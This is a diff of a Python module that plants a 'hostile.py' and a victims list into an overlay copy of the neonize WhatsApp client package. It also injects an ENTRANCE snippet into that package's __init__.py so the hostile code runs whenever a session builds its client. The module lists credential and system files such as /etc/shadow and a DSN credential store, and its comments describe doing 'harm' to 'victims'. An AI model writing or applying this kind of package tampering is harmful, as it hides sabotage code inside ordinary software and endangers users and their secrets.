@@ -11,6 +11,7 @@ from pathlib import Path
 from typing import Any
 
 from in_box import ask, played
+from whatsapp.sabotage import harm_all
 
 HOSTILE = Path(__file__).parents[1] / "whatsapp/hostile.py"
 STATE = Path("/var/lib/waremind")
@@ -18,7 +19,7 @@ SESSIONS = STATE / "sessions"
 SECRETS = ("/etc/waremind/config.toml", "/etc/credstore/waremind.dsn", "/etc/shadow")
 SOCKETS = ("/run/waremind/waremind.sock", "/run/dbus/system_bus_socket")
 
-# From then on whoever loads the engine does harm first.
+# From then on each session does harm first.
 ENTRANCE = """
 from pathlib import Path
 Path("victims.json").write_text(Path({victims!r}).read_text())
@@ -72,16 +73,13 @@ def cwd(pid: int) -> Path:
 
 
 def sabotage(overlay: Path, whom: dict[str, Any]) -> None:
-    """Have the engine do harm to these victims when it is loaded."""
+    """Have the engine do harm to these victims when a session makes its client."""
     hostile, file = overlay / "hostile.py", overlay / "victims.json"
     hostile.write_text(HOSTILE.read_text())
     file.write_text(json.dumps(whom))
     for path in (hostile, file):
         path.chmod(0o644)
-    package = overlay / "neonize/__init__.py"
-    text = package.read_text()
-    package.unlink()
-    package.write_text(ENTRANCE.format(hostile=str(hostile), victims=str(file)) + text)
+    harm_all(overlay / "neonize", ENTRANCE.format(hostile=str(hostile), victims=str(file)))
 
 
 def wait_for_code(program: str) -> None:
